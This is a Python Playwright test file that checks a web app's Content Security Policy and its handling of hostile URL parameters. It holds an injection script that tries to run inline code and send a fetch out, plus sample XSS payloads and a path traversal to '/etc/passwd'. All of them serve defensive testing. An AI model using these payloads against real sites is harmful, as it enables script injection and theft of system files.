"""The page in a browser: its rule is broken by nothing it does itself, and by whatever breaks in."""

import urllib.request
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import BrowserContext

from powerviz.examples.bundled import load_examples
from tests.covers import by_night
from tests.web.browser import QUICK, Visit, visit
from tests.web.hostile import PROMPT, TOKENS

WATCH = """
globalThis.violations = [];
document.addEventListener('securitypolicyviolation', (event) =>
  violations.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`));
"""
BREAK_IN = """async (elsewhere) => {
  const place = document.createElement('div');
  place.innerHTML = `<img src="${elsewhere}/x.png" onerror="globalThis.broken = 'image'">
    <a href="javascript:globalThis.broken='link'">go</a><iframe src="${elsewhere}"></iframe>
    <form action="${elsewhere}"><input name="a"></form><base href="${elsewhere}">`;
  document.body.append(place);
  const script = document.createElement('script');
  script.textContent = "globalThis.broken = 'script'";
  document.body.append(script);
  const far = document.createElement('script');
  far.src = `${elsewhere}/x.js`;
  document.body.append(far);
  place.querySelector('a').click();
  place.querySelector('form').submit();
  const said = await fetch(`${elsewhere}/taken`).then(() => 'sent', () => 'refused');
  await new Promise((done) => setTimeout(done, 300));
  return [globalThis.broken ?? 'nothing', said];
}"""
KINDS = {"img-src", "script-src-attr", "script-src-elem", "connect-src", "frame-src", "form-action"}
ELSEWHERE = "http://localhost:9"
TABS = ("explore", "compare", "evaluate", "learn", "library")


def opened(context: BrowserContext, server: str, values: dict[str, str]) -> Visit:
    return visit(context, f"{server}?{urlencode(values)}", server, WATCH)


def assert_well(page: Visit) -> None:
    assert page.js("globalThis.violations") == []
    assert page.wrong == []


@pytest.mark.nightly
def test_normal_use_of_all_five_tabs_breaks_no_rule(context: BrowserContext, server: str) -> None:
    page = opened(context, server, QUICK)
    page.finish()
    page.page.wait_for_selector(".pv-explore .pv-trace .main-svg")
    page.page.locator(".pv-response .pv-token").first.hover()
    with page.page.expect_download() as picture:
        page.page.locator('.pv-explore [data-keep="trace"][data-format="png"]').click()
    assert picture.value.suggested_filename.endswith(".png")
    for kind in ("jsonl", "html"):
        with page.page.expect_download() as file:
            page.page.locator(f'.pv-explore [data-download="{kind}"]').click()
        assert file.value.suggested_filename.endswith(f".{kind}")
    for tab in TABS[1:]:
        page.js(f"PowerViz.openTab('{tab}')")
        page.page.wait_for_selector(f'[data-pv="{tab}"][data-ready="true"]')
    page.page.wait_for_selector(".pv-library .pv-trace .main-svg")
    page.page.set_input_files('[data-pv="upload"]', load_examples()[1].recording)
    page.page.wait_for_function("PowerViz.tabs.library.player.runId.startsWith('upload-')")
    page.js("PowerViz.openTab('evaluate')")
    form = '[data-pv="evaluate"]'
    page.js("document.querySelectorAll('.pv-evaluate details').forEach((one) => one.open = true)")
    for name, value in {"limit": 1, "samples": 1, "num_steps": 1, "max_new_tokens": 16}.items():
        page.page.fill(f'{form} [name="{name}"]', str(value))
    page.page.click(f'{form} [data-pv="start"]')
    page.page.wait_for_function("PowerViz.tabs.evaluate.state()?.status === 'finished'")
    page.page.wait_for_selector(f"{form} .pv-figure-accuracy .main-svg")
    page.js("PowerViz.openTab('learn')")
    page.page.click('[data-pv="learn"] [data-pv="onward"]')
    page.settle()
    assert_well(page)


def test_what_breaks_into_the_page_neither_runs_nor_sends_anything(
    context: BrowserContext, server: str
) -> None:
    page = opened(context, server, {})
    assert page.js(BREAK_IN, ELSEWHERE) == ["nothing", "refused"]
    assert {said.split(":")[0] for said in page.js("violations")} >= KINDS - {"frame-src"}
    assert any("Content Security Policy" in said for said in page.wrong)
    assert page.page.url.startswith(server)


def test_what_breaks_into_an_exported_page_neither_runs_nor_sends_anything(
    context: BrowserContext, server: str, tmp_path: Path
) -> None:
    path = tmp_path / "run.html"
    address = f"{server}powerviz/runs/{load_examples()[0].name}/html"
    path.write_bytes(urllib.request.urlopen(address).read())
    page = visit(context, path.as_uri(), "file:", WATCH)
    page.page.wait_for_selector(".pv-trace .main-svg")
    assert_well(page)
    assert page.js(BREAK_IN, ELSEWHERE) == ["nothing", "refused"]
    assert {said.split(":")[0] for said in page.js("violations")} >= KINDS - {"frame-src"}
    assert page.page.url == path.as_uri()


NUMBERS = ("alpha", "num_steps", "block_size", "max_new_tokens", "seed", "temperature", "prefetch")
WORDS = ("prompt", "model", "wrapping", "example", "truth", "run", "step", "evaluation", "lesson")
GRADIO = ("deep_link", "view", "__lang", "__theme", "__sign")
LINKS = [
    ("explore", PROMPT, "NaN"),
    ("explore", TOKENS[1], "1e999"),
    ("explore", "../../../../etc/passwd\0", "-1"),
    ("compare", PROMPT, "<script>alert(1)</script>"),
    ("evaluate", "javascript:alert(1)", "9" * 400),
    ("learn", '"><img src=x onerror=alert(1)>', "''"),
    ("library", PROMPT, "[]"),
]


def hostile_values(tab: str, text: str, number: str) -> dict[str, str]:
    values = dict.fromkeys(WORDS, text) | dict.fromkeys(NUMBERS, number)
    return values | dict.fromkeys(GRADIO, text) | {"tab": tab}


def assert_nothing_else_was_done(page: Visit) -> None:
    page.settle()
    hostile = (
        "document.querySelectorAll('.pv-tab img, .pv-tab script, a[href^=\"javascript\"]').length"
    )
    assert page.js(hostile) == 0
    assert page.js("globalThis.violations") == []
    # What Chromium remarks when a field for numbers is given something else, and leaves it empty.
    assert [said for said in page.wrong if "cannot be parsed" not in said] == []


def test_hostile_values_for_all_five_tabs_in_turn_open_them_and_do_nothing_else(
    context: BrowserContext, server: str
) -> None:
    page = opened(context, server, hostile_values("explore", PROMPT, "NaN"))
    for tab in TABS[1:]:
        link = f"?{urlencode(hostile_values(tab, PROMPT, 'NaN'))}"
        page.js(
            f"(link) => (history.replaceState(null, '', link), PowerViz.openTab('{tab}'))", link
        )
        page.page.wait_for_selector(f'[data-pv="{tab}"][data-ready="true"]')
    assert_nothing_else_was_done(page)


@pytest.mark.nightly
@pytest.mark.parametrize(("tab", "text", "number"), LINKS)
def test_a_link_full_of_hostile_values_opens_the_page_and_does_nothing_else(
    context: BrowserContext, server: str, tab: str, text: str, number: str
) -> None:
    page = opened(context, server, hostile_values(tab, text, number))
    page.settle()
    page.page.wait_for_timeout(300)
    assert_nothing_else_was_done(page)


NO_TABS = ('"]<img src=x onerror=alert(1)>', "__proto__", "explore'x", "\\")


@pytest.mark.parametrize("tab", by_night(NO_TABS, []))
def test_a_link_to_no_tab_opens_the_first(context: BrowserContext, server: str, tab: str) -> None:
    page = context.new_page()
    page.add_init_script(WATCH)
    seen: list[str] = []
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("dialog", lambda dialog: (seen.append("dialog"), dialog.dismiss()))
    page.goto(f"{server}?{urlencode({'tab': tab})}")
    page.wait_for_selector('[data-pv="explore"][data-ready="true"]')
    assert seen == [] and page.evaluate("globalThis.violations") == []


def test_the_status_page_has_its_style_and_runs_nothing(
    context: BrowserContext, server: str
) -> None:
    page = context.new_page()
    answer = page.goto(f"{server}healthz")
    assert answer and "default-src 'none'" in answer.headers["content-security-policy"]
    assert "script-src" not in answer.headers["content-security-policy"]
    head = "getComputedStyle(document.querySelector('th')).textAlign"
    assert page.evaluate(head) == "left"
    page.click("text=To the page", no_wait_after=True)
    page.wait_for_url(server, wait_until="commit")
